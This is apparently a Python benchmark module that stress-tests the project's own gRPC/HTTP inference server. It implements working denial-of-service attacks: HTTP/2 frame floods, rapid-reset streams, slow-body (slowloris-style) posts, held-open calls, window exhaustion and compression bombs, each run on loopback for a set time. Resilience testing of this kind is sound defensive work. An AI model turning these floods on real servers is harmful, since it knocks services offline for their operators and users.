"""The attacks, each an endless loop over loopback that some seconds of it are taken of.

None knows a token. Raw sockets are used where no client would send such bytes. ``python -m`` with NAME GRPC HTTP
SECONDS runs one, in a process of its own, so that an attacker and its victim share processors as two clients would.
"""

from __future__ import annotations

import asyncio
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from functools import partial
from typing import Any

import hpack

from benchmarks.attack.messages import GRPC_BOMBS, HTTP_BOMBS, LARGE_BODIES, LARGE_MESSAGES, pack
from orchestrator.http2.frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    settings_frame,
)
from orchestrator.http2.grpc.wire import pack_message
from orchestrator.triton.messages import SERVICE

Attack = Callable[[str, str], Awaitable[None]]
"""Takes the addresses of gRPC and HTTP, ``host:port``, and goes on until it is cancelled."""

_CHUNK_BYTES = 2**18
_END_HEADERS, _END_STREAM = 4, 1
_WINDOW_BYTES = (2**31 - 1 - 65535).to_bytes(4, "big")


def _head(method: str, *more: tuple[str, str]) -> bytes:
    """Return the header block of a call, the same wherever it stands."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    fields = [
        *((":method", "POST"), (":scheme", "http"), (":path", f"/{SERVICE}/{method}"), (":authority", "attack")),
        *(("content-type", "application/grpc"), ("te", "trailers"), *more),
    ]
    return encoder.encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port), limit=2**20)


async def _discard(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(2**20):
            pass


async def _send_on(address: str, first: bytes, chunks: Callable[[int], bytes]) -> None:
    """Connect, send what comes first and then chunk after chunk until the other side ends it; read what comes."""
    reader, writer = await _connect(address)
    reading = asyncio.create_task(_discard(reader))
    try:
        writer.write(first)
        number = 0
        while not reading.done():
            writer.write(chunks(number))
            await writer.drain()
            number += 1
    finally:
        reading.cancel()
        writer.close()


async def _again(attempt: Callable[[], Awaitable[None]], *, pause_s: float = 0.0) -> None:
    """Begin anew whenever the other side has ended it."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            await attempt()
        await asyncio.sleep(pause_s)


_OPENING = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(WINDOW_UPDATE, 0, 0, _WINDOW_BYTES)


async def _flood(grpc: str, http: str, *, repeated: bytes, first: bytes = b"") -> None:
    chunk = repeated * max(1, _CHUNK_BYTES // len(repeated))
    await _again(lambda: _send_on(grpc, _OPENING + first, lambda number: chunk))


async def _flood_of_streams(
    grpc: str, http: str, *, head: bytes, each: int, flags: int = _END_HEADERS | _END_STREAM, after: bytes = b""
) -> None:
    """Open streams without an end, ``each`` a write; what comes ``after`` a head has the type, flags and content."""

    def chunk(number: int) -> bytes:
        first = 2 * number * each + 1
        return b"".join(
            frame(HEADERS, flags, stream, head) + (frame(after[0], after[1], stream, after[2:]) if after else b"")
            for stream in range(first, first + 2 * each, 2)
        )

    await _again(lambda: _send_on(grpc, _OPENING, chunk))


async def _post(
    grpc: str, http: str, *, path: str, make: Callable[[], tuple[bytes, int | None]], packed: bool, count: int = 1
) -> None:
    """Post a body again and again, over so many connections at a time."""
    body, json_bytes = await asyncio.to_thread(make)
    fields = ["Host: attack", "Connection: close"]
    if json_bytes is not None:
        fields.append(f"Inference-Header-Content-Length: {json_bytes}")
    if packed:
        body = await asyncio.to_thread(pack, body)
        fields.append("Content-Encoding: gzip")
    head = "\r\n".join((f"POST {path} HTTP/1.1", *fields, f"Content-Length: {len(body)}", "", ""))

    async def post() -> None:
        reader, writer = await _connect(http)
        try:
            writer.write(head.encode() + body)
            await reader.read(2**20)
        finally:
            writer.close()

    await asyncio.gather(*(_again(post, pause_s=0.5) for _ in range(count)))


async def _send_message(
    grpc: str, http: str, *, make: Callable[[], bytes], packed: bool = True, method: str = "ModelInfer"
) -> None:
    """Send one message again and again, as fast as it is taken, each over a connection of its own."""
    content = await asyncio.to_thread(lambda: pack(make()) if packed else make())
    message = bytes([packed]) + len(content).to_bytes(4, "big") + content
    encoding = ("grpc-encoding", "gzip") if packed else ("grpc-encoding", "identity")
    opening = _OPENING + frame(HEADERS, _END_HEADERS, 1, _head(method, encoding))
    body = b"".join(frame(DATA, 0, 1, message[at : at + 16384]) for at in range(0, len(message), 16384))
    whole = opening + body + frame(DATA, _END_STREAM, 1, b"")

    async def call() -> None:
        reader, writer = await _connect(grpc)
        try:
            writer.write(whole)
            with suppress(TimeoutError):
                async with asyncio.timeout(2.0):
                    await _discard(reader)
        finally:
            writer.close()

    await _again(call, pause_s=0.5)


async def _open_calls(grpc: str, http: str, *, count: int = 1000) -> None:
    """Hold so many connections, each with a call that never ends."""
    opening = _OPENING + frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer"))

    async def hold() -> None:
        reader, writer = await _connect(grpc)
        try:
            writer.write(opening)
            await _discard(reader)
        finally:
            writer.close()

    await asyncio.gather(*(_again(hold, pause_s=0.1) for _ in range(count)))


async def _unread_answers(grpc: str, http: str, *, count: int = 20_000) -> None:
    """Ask for the configuration of a model again and again, with a window that takes no answer."""
    question = pack_message(b"\x0a\x07fashion")
    head, closed = _head("ModelConfig"), frame(SETTINGS, 0, 0, b"\x00\x04" + bytes(4))

    def calls(number: int) -> bytes:
        first = 200 * (number % (count // 100)) + 1
        return b"".join(
            frame(HEADERS, _END_HEADERS, stream, head) + frame(DATA, _END_STREAM, stream, question)
            for stream in range(first, first + 200, 2)
        )

    await _again(lambda: _send_on(grpc, PREFACE + closed, calls))


async def _slow_bodies(grpc: str, http: str, *, count: int = 9) -> None:
    """Send large bodies, of which the second half comes a byte a second."""
    lengths = b"Content-Length: 60000000\r\nInference-Header-Content-Length: 100\r\n"  # JSON alone may be no such size
    head = b"POST /v2/models/fashion/infer HTTP/1.1\r\nHost: attack\r\n" + lengths + b"\r\n"

    async def post() -> None:
        reader, writer = await _connect(http)
        try:
            writer.write(head + bytes(30_000_000))
            reading = asyncio.create_task(_discard(reader))
            while not reading.done():
                writer.write(b" ")
                await asyncio.sleep(1.0)
        finally:
            writer.close()

    await asyncio.gather(*(_again(post, pause_s=0.1) for _ in range(count)))


def _streams(head: bytes, *, each: int = 2000, **more: Any) -> Attack:
    return partial(_flood_of_streams, head=head, each=each, **more)


_EMPTY_MESSAGE = bytes((DATA, _END_STREAM)) + pack_message(b"")


def _refused_head() -> bytes:
    encoder = hpack.Encoder()
    return encoder.encode([(":method", "POST"), (":path", "/x"), ("connection", "close")])


def _as_json(make: Callable[[], bytes]) -> tuple[bytes, None]:
    return make(), None


def _code(number: int) -> bytes:
    return number.to_bytes(4, "big")


ATTACKS: Mapping[str, Attack] = {
    "window-updates": partial(_flood, repeated=frame(WINDOW_UPDATE, 0, 0, _code(1))),
    "pings": partial(_flood, repeated=frame(PING, 0, 0, bytes(8))),
    "settings": partial(_flood, repeated=frame(SETTINGS, 0, 0, b"")),
    "priorities": partial(_flood, repeated=frame(PRIORITY, 0, 1, bytes(5))),
    "unknown-frames": partial(_flood, repeated=frame(0x42, 0, 0, b"")),
    "data-of-closed-streams": partial(
        _flood,
        first=frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer")) + frame(RST_STREAM, 0, 1, _code(8)),
        repeated=frame(DATA, 0, 1, bytes(1)),
    ),
    "empty-data": partial(
        _flood, first=frame(HEADERS, _END_HEADERS, 1, _head("ModelInfer")), repeated=frame(DATA, 0, 1, b"")
    ),
    "continuations": partial(_flood, first=frame(HEADERS, 0, 1, b""), repeated=frame(CONTINUATION, 0, 1, b"")),
    "window-changes": partial(
        _flood,
        first=b"".join(frame(HEADERS, _END_HEADERS, stream, _head("ModelInfer")) for stream in range(1, 2001, 2)),
        repeated=settings_frame([(INITIAL_WINDOW_SIZE, 65535)]) + settings_frame([(INITIAL_WINDOW_SIZE, 65534)]),
    ),
    "rapid-resets": _streams(_head("ModelInfer"), flags=_END_HEADERS, after=bytes((RST_STREAM, 0)) + _code(8)),
    "opened-calls": _streams(_head("ModelInfer"), flags=_END_HEADERS),
    "refused-heads": _streams(_refused_head()),
    "heads-without-path": _streams(b"\x83\x86\x84"),
    "unknown-methods": _streams(_head("Nothing")),
    "lying-lengths": _streams(
        _head("ServerLive", ("content-length", "9")), flags=_END_HEADERS, after=bytes((DATA, _END_STREAM))
    ),
    "live-calls": _streams(_head("ServerLive"), flags=_END_HEADERS, after=_EMPTY_MESSAGE),
    "index-calls": _streams(_head("RepositoryIndex"), flags=_END_HEADERS, after=_EMPTY_MESSAGE),
    "huffman": _streams(_head("Nothing", *((f"x-{n}", "&~'" * 400) for n in range(8))), each=20),
    "open-calls": _open_calls,
    "unread-answers": _unread_answers,
    "slow-bodies": _slow_bodies,
    **{f"grpc-{name}": partial(_send_message, make=make) for name, make in GRPC_BOMBS.items()},
    **{
        f"large-{form}{name}": partial(_send_message, make=make, packed=packed, method=method)
        for name, make in LARGE_MESSAGES.items()
        for method, form in (("ModelInfer", ""), ("ModelStreamInfer", "streamed-"))
        for packed, form in ((False, form), (True, f"{form}gzip-"))
    },
    **{
        f"{form}-{name}": partial(_post, path=path, make=partial(_as_json, make), packed=packed)
        for form, packed in (("gzip", True), ("json", False))
        for name, (path, make) in HTTP_BOMBS.items()
    },
    **{
        f"large-{form}-{name}": partial(_post, path=path, make=make, packed=packed, count=3)
        for form, packed in (("http", False), ("http-gzip", True))
        for name, (path, make) in LARGE_BODIES.items()
    },
}


async def attack(name: str, grpc: str, http: str, seconds: float) -> None:
    """Attack for so many seconds."""
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await ATTACKS[name](grpc, http)


if __name__ == "__main__":
    name_, grpc_, http_, seconds_ = sys.argv[1:]
    asyncio.run(attack(name_, grpc_, http_, float(seconds_)))
